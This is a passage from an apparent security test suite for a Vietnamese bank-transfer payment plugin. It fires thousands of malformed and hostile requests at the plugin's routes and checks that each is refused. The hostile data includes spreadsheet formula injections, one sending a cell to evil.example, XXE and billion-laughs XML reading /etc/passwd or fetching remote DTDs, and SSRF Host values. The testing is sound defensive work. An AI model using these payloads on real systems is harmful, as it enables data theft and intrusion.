          ? { ...validCasso(), extra: JSON.parse(deepObject(200)) }
          : { ...validGeneric(), extra: JSON.parse(deepObject(200)) }
    const raw = JSON.stringify(deepValid)
    const headers =
      route === S
        ? headersFor(raw)
        : route === C
          ? cassoHeaders(deepValid)
          : genericHeaders(raw)
    add("not a JSON object, or too deep → 4xx", route, "POST", route, {
      headers,
      body: raw,
      want: [400],
      label: "valid body with 200 levels of nesting inside",
    })
    for (const size of [300 * 1024, 2 * 1024 * 1024, 12 * 1024 * 1024]) {
      const big = JSON.stringify({ ...validSepay(), content: long(size) })
      add("huge body → 413", route, "POST", route, {
        headers: {
          "content-type": "application/json",
          authorization: SEPAY_AUTH,
        },
        body: big,
        want: [413],
        label: `${size} bytes`,
      })
    }
    add("wrong content type → 4xx", route, "POST", route, {
      headers: { "content-type": "text/plain", authorization: SEPAY_AUTH },
      body: JSON.stringify(validSepay()),
      want: [400, 401, 415],
    })
    add("wrong content type → 4xx", route, "POST", route, {
      headers: {
        "content-type": "application/x-www-form-urlencoded",
        authorization: SEPAY_AUTH,
      },
      body: "id=1&transferAmount=5&transferType=in",
      want: [400, 401, 415],
    })
    add("wrong content type → 4xx", route, "POST", route, {
      headers: { authorization: SEPAY_AUTH },
      body: form([["file", PDF, "a.pdf"]]),
      want: [400, 401, 415],
    })
  }

  // --- Admin routes with an admin: wrong types, unknown ids -----------------------------------
  const A = (route, method, url, body, want = [400], label) =>
    add(
      "admin: wrong types → 400 (conflicts with the ledger → 409)",
      route,
      method,
      url,
      {
        headers: admin,
        body,
        want,
        label,
      }
    )
  for (const q of [
    "limit=abc",
    "limit=-1",
    "limit=0",
    "limit=201",
    "limit=1.5",
    "limit=1e9",
    "offset=-1",
    "offset=abc",
    "offset=1.5",
    "from=notadate",
    "from=99999-99-99",
    "from=%2B275760-09-13T00:00:00Z",
    "from=-271821-04-20T00:00:00Z",
    "to=2026-02-30T25:00:00Z",
    "min_amount=abc",
    "min_amount=-5",
    "min_amount=0",
    "min_amount=1e99",
    "min_amount=1.23456",
    "max_amount=1,000",
    "max_amount=12345678901234567",
    "direction=sideways",
    "direction=IN",
    "status=bogus",
    `q=${long(201)}`,
    "q=a%00b",
    "status[a]=x",
  ]) {
    A(
      "/admin/bank-transfer/transactions",
      "GET",
      `/admin/bank-transfer/transactions?${q}`,
      undefined,
      [400],
      q.slice(0, 30)
    )
  }
  for (const q of [
    "",
    "from=2026-11-01",
    "from=2026-11-30&to=2026-11-01",
    "from=2025-01-01&to=2026-01-02",
    "from=2026-02-30&to=2026-03-01",
    "from=30%2F11%2F2026&to=2026-12-01",
    "from=%2B275760-09-13&to=2026-12-01",
    "from=2026-11-01&to=2026-11-30&format=pdf",
    "from=2026-11-01&to=2026-11-30&format[a]=csv",
    `from=${long(41)}&to=2026-11-30`,
  ]) {
    A(
      "/admin/bank-transfer/exports/transactions",
      "GET",
      `/admin/bank-transfer/exports/transactions?${q}`,
      undefined,
      [400],
      q.slice(0, 30) || "no period"
    )
  }
  for (const q of [
    "status=bogus",
    "status=PENDING",
    "limit=0",
    "limit=201",
    "offset=-1",
    "limit=x",
  ]) {
    A(
      "/admin/bank-transfer/suggestions",
      "GET",
      `/admin/bank-transfer/suggestions?${q}`,
      undefined,
      [400],
      q
    )
  }
  for (const q of [
    "limit=0",
    "limit=101",
    "limit=abc",
    "offset=-1",
    "offset=x",
  ]) {
    A(
      "/admin/bank-transfer/imports",
      "GET",
      `/admin/bank-transfer/imports?${q}`,
      undefined,
      [400],
      q
    )
  }
  const nonObjects = ["[]", "1", '"x"', "null", "{", "{'a':1}"]
  const jsonRoutes = [
    ["/admin/bank-transfer/simulate", "/admin/bank-transfer/simulate"],
    ["/admin/bank-transfer/settings", "/admin/bank-transfer/settings"],
    [
      "/admin/bank-transfer/calendar-overrides",
      "/admin/bank-transfer/calendar-overrides",
    ],
    [
      "/admin/bank-transfer/column-mappings",
      "/admin/bank-transfer/column-mappings",
    ],
    [
      "/admin/bank-transfer/transactions/:id/match",
      `/admin/bank-transfer/transactions/${unmatched.id}/match`,
    ],
    [
      "/admin/bank-transfer/transactions/:id/ignore",
      `/admin/bank-transfer/transactions/${matched.id}/ignore`,
    ],
    [
      "/admin/bank-transfer/allocations/:id/undo",
      `/admin/bank-transfer/allocations/${allocation.id}/undo`,
    ],
    [
      "/admin/bank-transfer/orders/:order_id/request-confirmation",
      `/admin/bank-transfer/orders/${ownOrder.id}/request-confirmation`,
    ],
  ]
  for (const [route, url] of jsonRoutes) {
    for (const raw of nonObjects) {
      A(route, "POST", url, raw, [400], `body ${raw}`)
    }
    A(
      route,
      "POST",
      url,
      JSON.stringify({ pad: long(120 * 1024) }),
      [413],
      "body over 100 kB"
    )
    A(route, "POST", url, deepObject(8000), [400], "8,000 levels of nesting")
    A(
      route,
      "POST",
      url,
      JSON.stringify({ note: "a\u0000b" }),
      [400],
      "a NUL in a string"
    )
  }
  const simulateBad = [
    {},
    { memo: "x" },
    { amount: "1000" },
    { memo: long(501), amount: "1000" },
    { memo: "x", amount: "abc" },
    { memo: "x", amount: "-5" },
    { memo: "x", amount: "0" },
    { memo: "x", amount: "1.23456" },
    { memo: "x", amount: 1e21 },
    { memo: "x", amount: "1000", currency: "VNDX" },
    { memo: "x", amount: "1000", currency: "12A" },
    { memo: "x", amount: "1000", direction: "sideways" },
    { memo: "x", amount: "1000", booked_at: "notadate" },
    { memo: "x", amount: "1000", booked_at: "+275760-09-13T00:00:00.000Z" },
    { memo: "x", amount: "1000", booked_at: "0001-01-01T00:00:00Z" },
    { memo: "x", amount: "1000", account: long(65) },
    { memo: "x", amount: "1000", counterparty_name: long(201) },
    { memo: "x", amount: "1000", extra: 1 },
    { memo: 5, amount: "1000" },
    { memo: "x\u0000", amount: "1000" },
    { memo: "x", amount: true },
    { memo: "x", amount: ["1000"] },
  ]
  for (const body of simulateBad) {
    A(
      "/admin/bank-transfer/simulate",
      "POST",
      "/admin/bank-transfer/simulate",
      body,
      [400],
      JSON.stringify(body).slice(0, 40)
    )
  }
  const settingsBad = [
    { tolerances: 5 },
    { tolerances: { VND: { type: "fixed", amount: "abc" } } },
    { tolerances: { VND: { type: "fixed", amount: "-5" } } },
    { tolerances: { VND: { type: "fixed", amount: "0.5" } } },
    { tolerances: { VND: { type: "fixed", amount: 1e21 } } },
    { tolerances: { VN: { type: "fixed", amount: "5" } } },
    { tolerances: { "<script>": { type: "fixed", amount: "5" } } },
    { tolerances: { VND: { type: "percent", percent: 101 } } },
    { tolerances: { VND: { type: "percent", percent: -1 } } },
    { tolerances: { VND: { type: "magic" } } },
    { write_off: { VND: "lots" } },
    { write_off: { VND: "-1" } },
    { write_off: { VND: "0.5" } },
    { write_off: { "": "5" } },
    { allow_automatic_partials: "yes" },
    {
      policies: {
        digital: { confirmation_after: [6], tentative_cancel_after: 5 },
      },
    },
    { policies: { digital: { confirmation_after: [-1] } } },
    { policies: { digital: { confirmation_after: ["2"] } } },
    {
      policies: {
        digital: { final_cancel_after: 3, tentative_cancel_after: 5 },
      },
    },
    { policies: 5 },
    { instructions: "" },
    { instructions: long(2001) },
    { reference_prefix: "XX" },
    { accounts: [] },
    { webhooks: { sepay: { api_key: "x" } } },
    { unknown: 1 },
  ]
  for (const body of settingsBad) {
    A(
      "/admin/bank-transfer/settings",
      "POST",
      "/admin/bank-transfer/settings",
      body,
      [400],
      JSON.stringify(body).slice(0, 40)
    )
  }
  const calendarBad = [
    {},
    { date: "2031-02-30", kind: "day_off" },
    { date: "2031-13-01", kind: "day_off" },
    { date: "31-01-01", kind: "day_off" },
    { date: "", kind: "day_off" },
    { date: 20310101, kind: "day_off" },
    { date: null, kind: "day_off" },
    { date: "2031-01-01", kind: "holiday" },
    { date: "2031-01-01" },
    { date: "2031-01-01", kind: "day_off", name: long(201) },
    { date: "2031-01-01", kind: "day_off", name: 5 },
    { date: "2031-01-01", kind: "day_off", extra: 1 },
    { date: "2031-01-01T00:00:00Z", kind: "day_off" },
  ]
  for (const body of calendarBad) {
    A(
      "/admin/bank-transfer/calendar-overrides",
      "POST",
      "/admin/bank-transfer/calendar-overrides",
      body,
      [400],
      JSON.stringify(body).slice(0, 40)
    )
  }
  const mapping = { date: "Ngày", credit: "Có", memo: "Mô tả" }
  const mappingBad = [
    {},
    { name: "", mapping },
    { name: long(101), mapping },
    { name: "x" },
    { name: "x", mapping: "json" },
    { name: "x", mapping: { date: "d", memo: "m" } },
    { name: "x", mapping: { ...mapping, date_format: "yyyy/dd/mm" } },
    { name: "x", mapping: { ...mapping, decimal_separator: ";" } },
    { name: "x", mapping: { ...mapping, extra: "y" } },
    { name: "x", mapping: { ...mapping, date: "" } },
    { name: "x", mapping: { ...mapping, memo: long(101) } },
    { name: "x", bank_code: long(21), mapping },
    { name: 5, mapping },
    { name: "x", mapping, extra: 1 },
  ]
  for (const body of mappingBad) {
    A(
      "/admin/bank-transfer/column-mappings",
      "POST",
      "/admin/bank-transfer/column-mappings",
      body,
      [400],
      JSON.stringify(body).slice(0, 40)
    )
  }
  const matchBad = [
    {},
    { allocations: [] },
    { allocations: "x" },
    { allocations: [{ order_id: "", amount: "1" }] },
    { allocations: [{ order_id: paidOrder.id }] },
    { allocations: [{ order_id: paidOrder.id, amount: "-1" }] },
    { allocations: [{ order_id: paidOrder.id, amount: "0" }] },
    { allocations: [{ order_id: paidOrder.id, amount: "abc" }] },
    { allocations: [{ order_id: paidOrder.id, amount: "1e5" }] },
    { allocations: [{ order_id: paidOrder.id, amount: "12345678901234567" }] },
    {
      allocations: Array.from({ length: 51 }, () => ({
        order_id: paidOrder.id,
        amount: "1",
      })),
    },
    {
      allocations: [{ order_id: paidOrder.id, amount: "1" }],
      reason: long(501),
    },
    { allocations: [{ order_id: paidOrder.id, amount: "1" }], extra: 1 },
    // Well-formed, but more than the transaction holds.
    {
      allocations: [
        { order_id: ownOrder.id, amount: String(Number(unmatched.amount) + 1) },
      ],
    },
    {
      allocations: [
        { order_id: ownOrder.id, amount: unmatched.amount },
        { order_id: ownOrder.id, amount: "1" },
      ],
    },
  ]
  for (const body of matchBad) {
    A(
      "/admin/bank-transfer/transactions/:id/match",
      "POST",
      `/admin/bank-transfer/transactions/${unmatched.id}/match`,
      body,
      [400],
      JSON.stringify(body).slice(0, 40)
    )
  }
  // A transaction that is fully allocated can be matched or ignored no further: a conflict with
  // what was done before (409, saying to which order), never a change.
  A(
    "/admin/bank-transfer/transactions/:id/match",
    "POST",
    `/admin/bank-transfer/transactions/${matched.id}/match`,
    { allocations: [{ order_id: ownOrder.id, amount: "1" }] },
    [409],
    "fully allocated transaction"
  )
  for (const body of [{}, { reason: "not ours" }, { return: true }]) {
    A(
      "/admin/bank-transfer/transactions/:id/ignore",
      "POST",
      `/admin/bank-transfer/transactions/${matched.id}/ignore`,
      body,
      [409],
      `ignore an allocated transaction ${JSON.stringify(body)}`
    )
  }
  for (const body of [
    { return: "yes" },
    { reason: long(501) },
    { extra: 1 },
    { reason: 5 },
  ]) {
    A(
      "/admin/bank-transfer/transactions/:id/ignore",
      "POST",
      `/admin/bank-transfer/transactions/${unmatched.id}/ignore`,
      body,
      [400],
      JSON.stringify(body).slice(0, 40)
    )
  }
  for (const body of [
    {},
    { reason: "" },
    { reason: long(501) },
    { reason: 5 },
    { reason: "x", extra: 1 },
  ]) {
    A(
      "/admin/bank-transfer/allocations/:id/undo",
      "POST",
      `/admin/bank-transfer/allocations/${allocation.id}/undo`,
      body,
      [400],
      JSON.stringify(body).slice(0, 40)
    )
  }
  for (const body of [
    {},
    { message: "" },
    { message: long(2001) },
    { message: 5 },
    { message: "x", extra: 1 },
  ]) {
    A(
      "/admin/bank-transfer/orders/:order_id/request-confirmation",
      "POST",
      `/admin/bank-transfer/orders/${ownOrder.id}/request-confirmation`,
      body,
      [400],
      JSON.stringify(body).slice(0, 40)
    )
  }
  A(
    "/admin/bank-transfer/orders/:order_id/request-confirmation",
    "POST",
    `/admin/bank-transfer/orders/${paidOrder.id}/request-confirmation`,
    { message: "please confirm" },
    [400],
    "a paid order"
  )
  for (const body of [
    { amount: "abc" },
    { amount: "-1" },
    { reason: long(501) },
    { extra: 1 },
  ]) {
    A(
      "/admin/bank-transfer/suggestions/:id/confirm",
      "POST",
      "/admin/bank-transfer/suggestions/nope/confirm",
      body,
      [400, 404],
      JSON.stringify(body)
    )
  }
  for (const body of [{ reason: long(501) }, { reason: 5 }, { extra: 1 }]) {
    A(
      "/admin/bank-transfer/suggestions/:id/reject",
      "POST",
      "/admin/bank-transfer/suggestions/nope/reject",
      body,
      [400, 404],
      JSON.stringify(body)
    )
  }

  const U = (route, method, url, body) =>
    add("admin: unknown ids → 404", route, method, url, {
      headers: admin,
      body,
      want: [400, 404],
    })
  for (const id of HOSTILE_IDS) {
    U(
      "/admin/bank-transfer/transactions/:id",
      "GET",
      `/admin/bank-transfer/transactions/${id}`
    )
    U(
      "/admin/bank-transfer/transactions/:id/ignore",
      "POST",
      `/admin/bank-transfer/transactions/${id}/ignore`,
      { reason: "not ours" }
    )
    U(
      "/admin/bank-transfer/transactions/:id/match",
      "POST",
      `/admin/bank-transfer/transactions/${id}/match`,
      { allocations: [{ order_id: ownOrder.id, amount: "1" }] }
    )
    U(
      "/admin/bank-transfer/transactions/:id/match",
      "POST",
      `/admin/bank-transfer/transactions/${unmatched.id}/match`,
      {
        allocations: [
          {
            order_id: decodeURIComponent(id.replace(/%00/g, "")) || "x",
            amount: "1",
          },
        ],
      }
    )
    U(
      "/admin/bank-transfer/suggestions/:id/confirm",
      "POST",
      `/admin/bank-transfer/suggestions/${id}/confirm`,
      {}
    )
    U(
      "/admin/bank-transfer/suggestions/:id/reject",
      "POST",
      `/admin/bank-transfer/suggestions/${id}/reject`,
      {}
    )
    U(
      "/admin/bank-transfer/allocations/:id/undo",
      "POST",
      `/admin/bank-transfer/allocations/${id}/undo`,
      { reason: "mistake" }
    )
    U(
      "/admin/bank-transfer/imports/:id",
      "GET",
      `/admin/bank-transfer/imports/${id}`
    )
    U(
      "/admin/bank-transfer/imports/:id/commit",
      "POST",
      `/admin/bank-transfer/imports/${id}/commit`,
      {}
    )
    U(
      "/admin/bank-transfer/confirmations/:id/files/:file_id",
      "GET",
      `/admin/bank-transfer/confirmations/${id}/files/${id}`
    )
    U(
      "/admin/bank-transfer/calendar-overrides/:id",
      "DELETE",
      `/admin/bank-transfer/calendar-overrides/${id}`
    )
    U(
      "/admin/bank-transfer/orders/:order_id/request-confirmation",
      "POST",
      `/admin/bank-transfer/orders/${id}/request-confirmation`,
      { message: "please confirm" }
    )
    U(
      "/admin/bank-transfer/webhooks/:channel/test-delivery",
      "POST",
      `/admin/bank-transfer/webhooks/${id}/test-delivery`,
      {}
    )
  }

  // --- Statement imports ----------------------------------------------------------------------
  const I = "/admin/bank-transfer/imports"
  const header =
    "Ngày giao dịch;Số tham chiếu;Số tiền ghi nợ;Số tiền ghi có;Mô tả;Tên người chuyển"
  const day = "23/11/2026"
  const csvLine = ({
    ref = "FT-OK-1",
    credit = "100.000",
    memo = "chuyen tien",
    name = "NGUYEN VAN A",
  } = {}) => `${day} 09:15;${ref};;${credit};${memo};${name}`
  const quote = (v) => `"${v.replace(/"/g, '""')}"`
  const F = (label, content, name = "sao-ke.csv", fields = {}, want = [400]) =>
    add("statement file refused → 400", I, "POST", I, {
      headers: admin,
      body: form([["file", content, name]], fields),
      want,
      label,
    })
  const formulas = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
  ]
  const prefixes = ["", " ", "  ", "\t", "\r", "\u00a0"]
  for (const formula of formulas) {
    for (const prefix of prefixes) {
      for (const column of ["memo", "ref", "name"]) {
        const cell = quote(prefix + formula)
        F(
          `formula in ${column}: ${JSON.stringify(prefix + formula).slice(0, 24)}`,
          [header, csvLine(), csvLine({ ref: "FT-OK-2", [column]: cell })].join(
            "\n"
          )
        )
      }
    }
  }
  const lol =
    '<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
  const camt = (inner, prolog = "") =>
    `<?xml version="1.0" encoding="UTF-8"?>${prolog}<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Id>1</Id><Acct><Id><Othr><Id>${ACCOUNT}</Id></Othr></Id><Ccy>VND</Ccy></Acct>${inner}</Stmt></BkToCstmrStmt></Document>`
  const entry = (memo) =>
    `<Ntry><Amt Ccy="VND">100000</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2026-11-23</Dt></BookgDt><NtryDtls><TxDtls><RmtInf><Ustrd>${memo}</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>`
  F(
    "CAMT.053 billion laughs",
    camt(entry("&lol2;"), `<!DOCTYPE Document [${lol}]>`),
    "camt053.xml"
  )
  F(
    "CAMT.053 external entity (XXE)",
    camt(
      entry("&xxe;"),
      '<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    ),
    "camt053.xml"
  )
  F(
    "CAMT.053 external DTD",
    camt(entry("x"), '<!DOCTYPE Document SYSTEM "http://evil.example/x.dtd">'),
    "camt053.xml"
  )
  F(
    "CAMT.053 parameter entity",
    camt(
      entry("x"),
      '<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
    ),
    "camt053.xml"
  )
  F(
    "CAMT.053 lower-case doctype",
    camt(entry("x"), '<!doctype Document [<!entity x "y">]>'),
    "camt053.xml"
  )
  F(
    "CAMT.053 entity declared after the root opens",
    camt(entry("x")).replace(
      "<BkToCstmrStmt>",
      '<!ENTITY x "y"><BkToCstmrStmt>'
    ),
    "camt053.xml"
  )
  F(
    "CAMT.053 100,000 nested elements",
    camt("<a>".repeat(100_000) + "</a>".repeat(100_000)),
    "camt053.xml"
  )
  F("CAMT.053 truncated", camt(entry("x")).slice(0, 300), "camt053.xml")
  F(
    "CAMT.053 another shop's account",
    camt(entry("x")).replace(ACCOUNT, "999999999"),
    "camt053.xml"
  )
  F(
    "OFX with a DOCTYPE",
    `<?xml version="1.0"?><!DOCTYPE OFX [${lol}]><?OFX OFXHEADER="200"?><OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>VND</CURDEF><BANKTRANLIST><STMTTRN><TRNAMT>&lol2;</TRNAMT></STMTTRN></BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>`,
    "statement.ofx"
  )
  F(
    "OFX without a statement",
    "OFXHEADER:100\n<OFX><SIGNONMSGSRSV1></SIGNONMSGSRSV1></OFX>",
    "statement.ofx"
  )
  F(
    "MT940 with a malformed :61:",
    ":20:X\n:25:0071000123456\n:60F:C261123VND0,\n:61:junk\n:62F:C261123VND0,\n",
    "statement.mt940"
  )
  const junk = Buffer.alloc(20_000)
  for (let i = 0; i < junk.length; i++) {
    junk[i] = Math.floor(rnd() * 256)
  }
  F("random binary", junk, "sao-ke.csv")
  F(
    "invalid UTF-8 without NUL bytes",
    Buffer.from([
      ...Buffer.from(header + "\n" + day + ";R;;100.000;chuy"),
      0xc3,
      0x28,
      0xa0,
      0xa1,
    ]),
    "sao-ke.csv"
  )
  F(
    "an ELF binary named .csv",
    Buffer.concat([
      Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
      Buffer.alloc(500, 0),
    ]),
    "sao-ke.csv"
  )
  F("a PNG named .xml", PNG, "camt053.xml")
  F("a PDF named .ofx", PDF, "statement.ofx")
  F("a PDF named .csv", PDF, "sao-ke.csv")
  F(
    "a zip that is no workbook",
    Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), Buffer.alloc(2000, 7)]),
    "sao-ke.xlsx"
  )
  F(
    "an executable named .exe",
    Buffer.concat([Buffer.from("MZ"), Buffer.alloc(300, 0)]),
    "statement.exe"
  )
  F("an empty file", Buffer.alloc(0), "sao-ke.csv")
  F("only whitespace", Buffer.from(" \n\n \t\n"), "sao-ke.csv")
  F("a header and no rows", Buffer.from(header + "\n"), "sao-ke.csv")
  F("no header row", Buffer.from("a;b;c\n1;2;3\n"), "sao-ke.csv")
  F("a row with no amount", [header, `${day};R;;;chuyen tien;X`].join("\n"))
  F(
    "a row with an impossible date",
    [header, `30/02/2026;R;;100.000;chuyen tien;X`].join("\n")
  )
  F(
    "a row with a text amount",
    [header, `${day};R;;mot tram;chuyen tien;X`].join("\n")
  )
  F(
    "another shop's account",
    [
      "Ngày giao dịch;Số tiền ghi có;Mô tả;Số tài khoản",
      `${day};100.000;chuyen tien;999999999`,
    ].join("\n")
  )
  F(
    "unbalanced quotes",
    [header, `${day};R;;100.000;"chuyen tien;X`].join("\n")
  )
  const over = Buffer.alloc(10 * 1024 * 1024 + 1, 0x41)
  F("1 byte over the 10 MB limit", over, "sao-ke.csv")
  F("20 MB", Buffer.alloc(20 * 1024 * 1024, 0x41), "sao-ke.csv")
  const okCsv = [header, csvLine()].join("\n")
  F("a mapping that is not JSON", okCsv, "sao-ke.csv", { mapping: "{not json" })
  F("a mapping with unknown keys", okCsv, "sao-ke.csv", {
    mapping: JSON.stringify({ date: "a", credit: "b", memo: "c", evil: "d" }),
  })
  F("a mapping without an amount column", okCsv, "sao-ke.csv", {
    mapping: JSON.stringify({ date: "a", memo: "c" }),
  })
  F("a mapping naming absent columns", okCsv, "sao-ke.csv", {
    mapping: JSON.stringify({ date: "Ngày", credit: "Có", memo: "Nội dung" }),
  })
  F("a mapping over 5,000 characters", okCsv, "sao-ke.csv", {
    mapping: long(5001),
  })
  F("an unknown preset", okCsv, "sao-ke.csv", { preset: "NOPE" })
  F(
    "an unknown saved mapping",
    okCsv,
    "sao-ke.csv",
    { mapping_id: "nope" },
    [400, 404]
  )
  F("an unknown form field", okCsv, "sao-ke.csv", { owner: "me" })
  F(
    "11 form fields",
    okCsv,
    "sao-ke.csv",
    Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`f${i}`, "x"]))
  )
  F("a file name with a NUL", okCsv, "sao-ke\u0000.csv")
  add("statement file refused → 400", I, "POST", I, {
    headers: admin,
    body: form([
      ["file", okCsv, "a.csv"],
      ["file", okCsv, "b.csv"],
    ]),
    want: [400],
    label: "two files",
  })
  add("statement file refused → 400", I, "POST", I, {
    headers: admin,
    body: form([["statement", okCsv, "a.csv"]]),
    want: [400],
    label: "the file in another field",
  })
  add("statement file refused → 400", I, "POST", I, {
    headers: admin,
    body: JSON.stringify({ file: okCsv }),
    want: [400],
    label: "JSON instead of multipart",
  })
  add("statement file refused → 400", I, "POST", I, {
    headers: { ...admin, "content-type": "multipart/form-data" },
    body: "abc",
    want: [400],
    label: "multipart without a boundary",
  })
  add("statement file refused → 400", I, "POST", I, {
    headers: { ...admin, "content-type": "multipart/form-data; boundary=b" },
    body: '--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nabc',
    want: [400],
    label: "truncated multipart",
  })
  for (const f of formulas) {
    F(`XLSX text cell ${f.slice(0, 16)}`, await xlsxFile(f), "sao-ke.xlsx")
  }

  // --- Issue 18: uploads authorised before they are read, SePay's HMAC required, test deliveries
  // to the configured public URL only (run.mjs sets it to http://127.0.0.1:9, where nothing listens).
  const BIG = Buffer.concat([PNG, Buffer.alloc(6 * 1024 * 1024)])
  for (let i = 0; i < 12; i++) {
    add(
      "6 MB proof to a wrong token, refused before it is read → 404",
      "/bank-transfer/pay/:token/confirm",
      "POST",
      `/bank-transfer/pay/${randomToken()}/confirm`,
      {
        body: form([["file", BIG, "big.png", "image/png"]], { message: "x" }),
        want: [404],
      }
    )
  }
  add(
    "6 MB proof to a wrong token, refused before it is read → 404",
    "/store/bank-transfer/orders/:id/confirm",
    "POST",
    `/store/bank-transfer/orders/${otherOrders[0].id}/confirm`,
    {
      headers: asA,
      body: form([["file", BIG, "big.png", "image/png"]], { message: "x" }),
      want: [404],
      label: "another customer's order",
    }
  )
  const {
    rows: [settled],
  } = await db.query(
    `SELECT page_token, status FROM bank_transfer_expectation WHERE status IN ('paid', 'canceled', 'refunded') AND deleted_at IS NULL LIMIT 1`
  )
  if (settled) {
    add(
      "6 MB proof for a paid or closed order, refused before it is read → 400",
      "/bank-transfer/pay/:token/confirm",
      "POST",
      `/bank-transfer/pay/${settled.page_token}/confirm`,
      {
        body: form([["file", BIG, "big.png", "image/png"]], { message: "x" }),
        want: [400],
        label: settled.status,
      }
    )
  } else {
    log("no paid or closed order to aim a proof at (part 1 did not run)")
  }
  const unsignedSepay = [
    ["the right API key alone", () => ({})],
    [
      "the API key and a signature made with another secret",
      (raw, ts) => ({
        "x-sepay-timestamp": String(ts),
        "x-sepay-signature": hmac("sha256", "not-the-secret", `${ts}.${raw}`),
      }),
    ],
    [
      "the API key and a right signature 10 minutes old",
      (raw, ts) => ({
        "x-sepay-timestamp": String(ts - 600),
        "x-sepay-signature": hmac(
          "sha256",
          SECRETS.sepayHmac,
          `${ts - 600}.${raw}`
        ),
      }),
    ],
  ]
  for (const [label, extra] of unsignedSepay) {
    const raw = JSON.stringify(validSepay())
    add(
      "SePay without a valid signature, HMAC configured → 401",
      S,
      "POST",
      S,
      {
        headers: {
          "content-type": "application/json",
          authorization: SEPAY_AUTH,
          ...extra(raw, Math.floor(Date.now() / 1000)),
        },
        body: raw,
        unsigned: true,
        want: [401],
        label,
      }
    )
  }
  const hosts = [
    `127.0.0.1:${PORT}`,
    `localhost:${PORT}`,
    "169.254.169.254",
    "127.0.0.1:22",
    "evil.example",
    "[::1]:5432",
  ]
  for (const channel of ["sepay", "casso", "payos", "generic"]) {
    for (const host of hosts) {
      add(
        "webhook test delivery to the configured URL only, Host ignored → 424",
        "/admin/bank-transfer/webhooks/:channel/test-delivery",
        "POST",
        `/admin/bank-transfer/webhooks/${channel}/test-delivery`,
        {
          headers: { ...admin, "content-type": "application/json", host },
          body: "{}",
          raw: true,
          want: [424],
          label: `Host: ${host}`,
        }
      )
    }
    add(
      "webhook test delivery to the configured URL only, Host ignored → 424",
      "/admin/bank-transfer/webhooks/:channel/test-delivery",
      "POST",
      `/admin/bank-transfer/webhooks/${channel}/test-delivery`,
      {
        headers: {
          ...admin,
          "content-type": "application/json",
          "x-forwarded-host": `127.0.0.1:${PORT}`,
          "x-forwarded-proto": "http",
        },
        body: "{}",
        raw: true,
        want: [424],
        label: "X-Forwarded-Host",
      }
    )
  }

  // --- Run ---------------------------------------------------------------------------------------
  const covered = new Set(cases.map((c) => c.route))
  const uncovered = routes.filter((r) => !covered.has(r))
  check(
    `a generated set of at least 2,000 hostile requests and files`,
    cases.length >= 2000,
    `${fmt(cases.length)} cases`
  )
  check(
    `every route of the plugin is attacked`,
    uncovered.length === 0,
    uncovered.length
      ? `not: ${uncovered.join(", ")}`
      : `${routes.length} routes`
  )

  // Controls, before the count: the clean versions of the generated files and deliveries are
  // accepted, so that each refusal above is owed to what was made hostile, not to the generator.
  const controls = [
    [
      "CSV",
      () =>
        request("POST", I, {
          headers: admin,
          body: form([
            [
              "file",
              [header, csvLine(), csvLine({ ref: "FT-OK-2" })].join("\n"),
              "sao-ke.csv",
            ],
          ]),
        }),
    ],
    [
      "CAMT.053",
      () =>
        request("POST", I, {
          headers: admin,
          body: form([["file", camt(entry("chuyen tien")), "camt053.xml"]]),
        }),
    ],
    [
      "XLSX",
      async () =>
        request("POST", I, {
          headers: admin,
          body: form([["file", await xlsxFile("chuyen tien"), "sao-ke.xlsx"]]),
        }),
    ],
    [
      "a SePay delivery with the API key",
      () =>
        request("POST", S, {
          headers: {
            "content-type": "application/json",
            authorization: SEPAY_AUTH,
          },
          body: JSON.stringify(validSepay()),
        }),
    ],
    [
      "a SePay delivery with an HMAC signature",
      () => {
        const raw = JSON.stringify(validSepay())
        return request("POST", S, { headers: sepayHmacHeaders(raw), body: raw })
      },
    ],
    [
      "a Casso delivery",
      () => {
        const body = validCasso()
        return request("POST", C, {
          headers: cassoHeaders(body),
          body: JSON.stringify(body),
        })
      },
    ],
    [
      "a generic delivery",
      () => {
        const raw = JSON.stringify(validGeneric())
        return request("POST", G, { headers: genericHeaders(raw), body: raw })
      },
    ],
  ]
  const { since } = (await db.query("SELECT now() AS since")).rows[0]
  const controlAnswers = []
  for (const [label, send] of controls) {
    controlAnswers.push([label, (await send()).status])
  }
  log(`controls: ${controlAnswers.map(([l, st]) => `${l} ${st}`).join(", ")}`)
  check(
    "controls: the clean file of each generated format and a correctly signed delivery on each channel are accepted",
    controlAnswers.every(([, st]) => st === 200 || st === 201)
  )

  // The controls' movements are matched by a subscriber after their answers; its writes (status,
  // audit entry) must land before the counts are taken, however long its queue takes.
  await waitUntil(
    async () =>
      (await unreconciledCount(
        db,
        "created_at >= $1 AND direction = 'in' AND deleted_at IS NULL",
        [since]
      )) === 0,
    60_000,
    250
  )
  const before = await stableCounts(db)
  const filesBefore = staticFiles()
  const started = Date.now()
  const answers = await pool(shuffle(cases, rnd), IN_FLIGHT, async (c) => ({
    c,
    r: c.raw
      ? await rawRequest(c.method, c.url, { body: c.body, headers: c.headers })
      : await request(c.method, c.url, {
          body: c.body,
          headers: c.headers,
          timeoutMs: 20_000,
          unsigned: c.unsigned,
        }),
  }))
  answers.push(...(await floods(ctx, randomToken)))
  const elapsed = Date.now() - started
  await sleep(2000) // anything a subscriber would write after an answer
  const after = await stableCounts(db)

  // Figures: by route and status.
  const table = new Map()
  for (const { c, r } of answers) {
